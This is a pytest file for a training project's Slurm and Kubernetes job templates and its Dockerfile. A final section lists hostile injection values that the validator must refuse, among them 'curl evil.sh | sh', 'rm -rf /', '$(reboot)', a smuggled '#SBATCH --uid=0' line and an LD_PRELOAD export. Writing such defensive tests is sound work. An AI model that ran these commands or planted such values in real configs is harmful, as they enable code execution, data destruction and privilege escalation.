"""The cluster job templates (infra/slurm, infra/k8s) rendered for 2 nodes x 8 GPUs, and the training image's
Dockerfile (infra/docker), checked for the properties a cluster depends on. No Prefect, no cluster here.

The Slurm script is also executed with stand-ins for `scontrol`, `srun` and `torchrun` on PATH (this machine has no
Slurm): that checks what the script really passes to torchrun after the shell has expanded it, not just its text.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import tomllib
from pathlib import Path

import pytest
import yaml

from d9d.flows.cli import main
from d9d.flows.deployments.cluster import NCCL_ENV, TEMPLATES_DIR, ClusterJobSpec, render_cluster_job

ROOT = Path(__file__).resolve().parents[2]
INFRA = ROOT / "infra"
TWO_BY_EIGHT = ClusterJobSpec(
    name="d9d-pretrain",
    nodes=2,
    gpus_per_node=8,
    config=Path("/shared/d9d/jobs/pretrain.yaml"),
    env={"WANDB_MODE": "offline", "D9D_NOTE": 'it\'s "quoted" $HOME'},  # must arrive verbatim, unexpanded
)


def _torchrun_options(args: list[str]) -> dict[str, str]:
    """`--key value` and `--key=value` options of a torchrun argument list, up to `-m`."""
    options: dict[str, str] = {}
    index = 0
    while index < len(args) and args[index] != "-m":
        key, separator, value = args[index].partition("=")
        if separator:
            options[key] = value
            index += 1
        else:
            options[key] = args[index + 1]
            index += 2
    return options


# Slurm ---------------------------------------------------------------------------------------------------------


def _sbatch_options(script: str) -> dict[str, str]:
    options = {}
    for line in script.splitlines():
        if line.startswith("#SBATCH "):
            key, _, value = line.removeprefix("#SBATCH ").partition("=")
            options[key] = value
    return options


def test_slurm_script_asks_for_two_nodes_of_eight_gpus_with_one_task_per_node():
    script = render_cluster_job("slurm", TWO_BY_EIGHT, templates=TEMPLATES_DIR)
    options = _sbatch_options(script)
    assert options["--nodes"] == "2"
    assert options["--ntasks-per-node"] == "1"  # one torchrun per node; torchrun starts the 8 ranks
    assert options["--gpus-per-node"] == "8"
    assert options["--signal"] == "USR1@360"  # to every node's launcher: 300 s of grace before the time limit, +60
    assert options["--mem"] == "512G"
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the rendered script parses


def _fake_cluster_bin(tmp_path: Path) -> Path:
    """`scontrol` listing two hosts, `srun` running its command once (as on node 0), `torchrun` recording itself."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    scripts = {
        "scontrol": '#!/bin/bash\n[ "$1 $2" = "show hostnames" ] && printf "gpu-node-17\\ngpu-node-18\\n"\n',
        "srun": '#!/bin/bash\nwhile [[ "$1" == --* ]]; do shift; done\nexec "$@"\n',
        "torchrun": '#!/bin/bash\nprintf "%s\\n" "$@" > "$RECORD/args"\nenv > "$RECORD/env"\n',
    }
    for name, text in scripts.items():
        path = bin_dir / name
        path.write_text(text)
        path.chmod(0o755)
    return bin_dir


def test_slurm_script_runs_torchrun_with_c10d_rendezvous_on_the_first_node_and_the_nccl_environment(tmp_path):
    script = tmp_path / "job.sbatch"
    script.write_text(render_cluster_job("slurm", TWO_BY_EIGHT, templates=TEMPLATES_DIR))
    record = tmp_path / "record"
    record.mkdir()
    environ = {
        "PATH": f"{_fake_cluster_bin(tmp_path)}:{os.environ['PATH']}",
        "SLURM_JOB_NODELIST": "gpu-node-[17-18]",
        "SLURM_JOB_ID": "4242",
        "RECORD": str(record),
        "HOME": str(tmp_path),
        "PYTHONPATH": os.environ.get("PYTHONPATH", ""),  # the d9d launcher each node runs torchrun under
    }
    subprocess.run(["bash", str(script)], env=environ, check=True, timeout=120)

    args = (record / "args").read_text().splitlines()
    options = _torchrun_options(args)
    assert options["--nnodes"] == "2"
    assert options["--nproc-per-node"] == "8"
    assert options["--rdzv-backend"] == "c10d"
    assert options["--rdzv-endpoint"] == "gpu-node-17:29500"  # the allocation's first node hosts the rendezvous
    assert options["--rdzv-id"] == "4242"  # one rendezvous per Slurm job
    assert options["--max-restarts"] == "0"
    assert args[args.index("-m") :] == ["-m", "d9d.flows.jobs.pretrain.program", "--config", str(TWO_BY_EIGHT.config)]

    env = dict(line.split("=", 1) for line in (record / "env").read_text().splitlines() if "=" in line)
    for name, value in NCCL_ENV.items():
        assert env[name] == value
    assert env["OMP_NUM_THREADS"] == "1"
    assert env["MASTER_ADDR"] == "gpu-node-17"
    assert env["D9D_HOME"] == "/shared/d9d/home"
    assert env["WANDB_MODE"] == "offline"
    assert env["D9D_NOTE"] == 'it\'s "quoted" $HOME'  # quoted for the shell: nothing expanded or lost


# Kubernetes ----------------------------------------------------------------------------------------------------


def _k8s_documents(spec: ClusterJobSpec) -> dict[str, dict]:
    documents = list(yaml.safe_load_all(render_cluster_job("kubernetes", spec, templates=TEMPLATES_DIR)))
    return {document["kind"]: document for document in documents}


def test_kubernetes_job_is_an_indexed_job_of_two_pods_with_eight_gpus_each():
    documents = _k8s_documents(TWO_BY_EIGHT)
    assert sorted(documents) == ["Job", "Service"]
    job = documents["Job"]
    assert job["apiVersion"] == "batch/v1"
    assert job["metadata"]["name"] == "d9d-pretrain"
    assert (job["spec"]["completionMode"], job["spec"]["completions"], job["spec"]["parallelism"]) == ("Indexed", 2, 2)
    assert job["spec"]["backoffLimit"] == 0
    pod = job["spec"]["template"]["spec"]
    assert pod["restartPolicy"] == "Never"
    (container,) = pod["containers"]
    resources = container["resources"]
    assert resources["requests"]["nvidia.com/gpu"] == 8
    assert resources["limits"]["nvidia.com/gpu"] == 8
    assert resources["limits"]["memory"] == resources["requests"]["memory"] == "512Gi"
    mounts = {mount["name"]: mount["mountPath"] for mount in container["volumeMounts"]}
    assert mounts == {"shared": "/shared/d9d", "dshm": "/dev/shm"}
    volumes = {volume["name"]: volume for volume in pod["volumes"]}
    assert volumes["shared"]["persistentVolumeClaim"]["claimName"] == "d9d-shared"
    assert volumes["dshm"]["emptyDir"]["medium"] == "Memory"


def test_kubernetes_torchrun_takes_its_node_rank_from_the_completion_index_and_meets_at_pod_zero():
    documents = _k8s_documents(TWO_BY_EIGHT)
    service, job = documents["Service"], documents["Job"]
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    command = container["command"]
    # PID 1 is the d9d launcher: the pod's SIGTERM reaches the ranks directly, within the pod's grace period.
    assert command[:6] == ["python", "-m", "d9d.flows.jobs.launch", "--grace=300", "--", "torchrun"]
    assert pod["terminationGracePeriodSeconds"] == 330
    command = command[5:]
    options = _torchrun_options(command[1:])
    assert options["--nnodes"] == "2"
    assert options["--nproc-per-node"] == "8"
    assert options["--node-rank"] == "$(JOB_COMPLETION_INDEX)"
    assert options["--rdzv-backend"] == "c10d"
    assert options["--rdzv-endpoint"] == "$(MASTER_ADDR):29500"
    program = ["-m", "d9d.flows.jobs.pretrain.program", "--config", "/shared/d9d/jobs/pretrain.yaml"]
    assert command[command.index("-m") :] == program

    env = {item["name"]: item for item in container["env"]}
    # Kubernetes expands $(NAME) in a command only for variables defined in the container's env.
    for name in re.findall(r"\$\((\w+)\)", " ".join(command)):
        assert name in env, f"$({name}) is used in the command but not defined"
    index_source = env["JOB_COMPLETION_INDEX"]["valueFrom"]["fieldRef"]["fieldPath"]
    assert index_source == "metadata.annotations['batch.kubernetes.io/job-completion-index']"
    # Indexed-Job pods are named <job>-<index> and resolve under the headless Service named by `subdomain`.
    assert service["spec"]["clusterIP"] == "None"
    assert pod["subdomain"] == service["metadata"]["name"] == job["metadata"]["name"]
    assert service["spec"]["selector"] == {"job-name": job["metadata"]["name"]}
    assert service["spec"]["ports"][0]["port"] == 29500
    assert env["MASTER_ADDR"]["value"] == "d9d-pretrain-0.d9d-pretrain.default.svc"
    for name, value in {**NCCL_ENV, "WANDB_MODE": "offline", "D9D_NOTE": 'it\'s "quoted" $HOME'}.items():
        assert env[name]["value"] == value


def test_render_job_command_prints_the_template_for_the_spec_and_rejects_bad_fields(capsys, tmp_path):
    spec_file = tmp_path / "spec.yaml"
    spec_file.write_text(yaml.safe_dump({"nodes": 2, "gpus_per_node": 8, "partition": "gpu"}))
    assert main(["render-job", "slurm", "--spec", str(spec_file), "--set", "nodes=4"]) == 0
    options = _sbatch_options(capsys.readouterr().out)
    assert (options["--nodes"], options["--gpus-per-node"], options["--partition"]) == ("4", "8", "gpu")

    assert main(["render-job", "kubernetes", "--set", "name=Big_Job"]) == 2
    assert "name = 'Big_Job'" in capsys.readouterr().err
    assert main(["render-job", "kubernetes", "--templates", str(tmp_path)]) == 2
    assert "no kubernetes template at" in capsys.readouterr().err


# The training image ----------------------------------------------------------------------------------------------


def _dockerfile() -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) pairs, with continuation lines joined and comments dropped."""
    text = (INFRA / "docker" / "Dockerfile").read_text()
    logical = re.sub(r"\\\n", " ", "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#")))
    instructions = []
    for line in logical.splitlines():
        if line.strip():
            keyword, _, rest = line.strip().partition(" ")
            instructions.append((keyword.upper(), rest.strip()))
    return instructions


def _arg_defaults(instructions: list[tuple[str, str]]) -> dict[str, str]:
    return dict(rest.split("=", 1) for keyword, rest in instructions if keyword == "ARG" and "=" in rest)


def test_dockerfile_bases_are_pinned_to_versioned_tags():
    instructions = _dockerfile()
    defaults = _arg_defaults(instructions)
    stages = [rest.split() for keyword, rest in instructions if keyword == "FROM"]
    assert len(stages) >= 2, "expected a wheel-building stage and a runtime stage"
    aliases = {words[2] for words in stages if len(words) == 3 and words[1].upper() == "AS"}
    for base in (words[0] for words in stages):
        image = re.sub(r"\$\{(\w+)\}", lambda match: defaults[match.group(1)], base)
        if image in aliases:  # built from an earlier stage of this file
            continue
        name, _, tag = image.rpartition(":")
        assert name and tag and tag != "latest" and re.search(r"\d+\.\d+", tag), f"{base} -> {image} is not pinned"


def test_dockerfile_runs_as_a_non_root_user_and_installs_every_d9d_distribution_with_pinned_torch():
    instructions = _dockerfile()
    runtime = instructions[max(i for i, (keyword, _) in enumerate(instructions) if keyword == "FROM") :]
    users = [rest for keyword, rest in runtime if keyword == "USER"]
    assert users and users[-1] not in ("root", "0"), f"the image must end as a non-root user, got {users}"

    members = [
        tomllib.loads(path.read_text())["project"]["name"]
        for path in [*sorted(ROOT.glob("packages/*/pyproject.toml")), ROOT / "flows" / "pyproject.toml"]
    ]
    installs = [shlex.split(rest) for keyword, rest in runtime if keyword == "RUN" and "pip install" in rest]
    installed = {word for words in installs for word in words}
    missing = [name for name in members if name not in installed]
    assert not missing, f"the image does not install {missing}"
    torch_pins = [word for word in installed if word.startswith("torch")]
    assert torch_pins == ["torch==${TORCH_VERSION}"], torch_pins
    defaults = _arg_defaults(instructions)
    assert re.fullmatch(r"\d+\.\d+\.\d+", defaults["TORCH_VERSION"])


def test_dockerfile_copies_only_paths_that_exist_and_that_its_dockerignore_lets_through():
    instructions = _dockerfile()
    ignore = (INFRA / "docker" / "Dockerfile.dockerignore").read_text().splitlines()
    for keyword, rest in instructions:
        if keyword != "COPY" or rest.startswith("--from"):
            continue
        *sources, _destination = rest.split()
        for source in sources:
            assert (ROOT / source).exists(), f"COPY {source}: no such path in the repository"
            assert f"!{source}" in ignore, f"COPY {source} is excluded by Dockerfile.dockerignore"
    for keyword, rest in instructions:
        if keyword == "RUN" and "apt-get update" in rest:
            assert "rm -rf /var/lib/apt/lists/*" in rest  # in the same layer, or the lists stay in the image


@pytest.mark.parametrize("field", ["nodes", "gpus_per_node"])
def test_cluster_spec_rejects_zero_nodes_or_gpus(field):
    with pytest.raises(ValueError, match=field):
        ClusterJobSpec(**{field: 0})


# Hostile values are refused, secrets never rendered --------------------------------------------------------------

HOSTILE = {
    "module": "d9d.flows.jobs.pretrain.program; curl evil.sh | sh",
    "partition": "gpu\n#SBATCH --uid=0",
    "account": "acct$(reboot)",
    "shared_dir": "/shared/d9d\nrm -rf /",
    "config": "/shared/jobs/a b.yaml",
    "venv": "/opt/venv'; reboot; '",
    "image": "ghcr.io/d9d/train:1 --privileged",
    "namespace": "default\nkind: ClusterRole",
    "shared_claim": 'claim"}',
}


@pytest.mark.parametrize("field", sorted(HOSTILE))
def test_a_hostile_value_is_refused_naming_the_field(field):
    with pytest.raises(ValueError, match=field):
        ClusterJobSpec(**{field: HOSTILE[field]})


@pytest.mark.parametrize(
    ("env", "problem"),
    [
        ({"BAD NAME": "x"}, "is not a variable name"),
        ({"X;reboot": "x"}, "is not a variable name"),
        ({"NOTE": "line\nexport LD_PRELOAD=/tmp/evil.so"}, "holds a newline"),
        ({"WANDB_API_KEY": "abc123"}, "looks like a secret"),
        ({"HF_TOKEN": "hf_abc"}, "looks like a secret"),
        ({"DB_PASSWORD": "pw"}, "looks like a secret"),
    ],
)
def test_environment_names_and_values_are_checked_and_secrets_refused_inline(env, problem):
    with pytest.raises(ValueError, match=problem):
        ClusterJobSpec(env=env)


def test_the_render_job_command_refuses_a_hostile_value_with_exit_2(capsys):
    argv = ["render-job", "slurm", "--set", "partition=gpu;reboot"]
    assert main(argv) == 2
    assert "partition = 'gpu;reboot'" in capsys.readouterr().err


def test_secrets_come_from_secret_key_refs_and_the_slurm_environment_never_from_the_file():
    spec = ClusterJobSpec(secret_env={"WANDB_API_KEY": {"secret": "wandb", "key": "api-key"}})
    job = _k8s_documents(spec)["Job"]
    (container,) = job["spec"]["template"]["spec"]["containers"]
    env = {item["name"]: item for item in container["env"]}
    assert env["WANDB_API_KEY"] == {
        "name": "WANDB_API_KEY",
        "valueFrom": {"secretKeyRef": {"name": "wandb", "key": "api-key"}},
    }
    script = render_cluster_job("slurm", spec, templates=TEMPLATES_DIR)
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    done = subprocess.run(
        ["bash", "-c", script.split("export OMP_NUM_THREADS")[0]], capture_output=True, text=True, check=False
    )
    assert done.returncode != 0 and "WANDB_API_KEY must be set in the environment that runs sbatch" in done.stderr
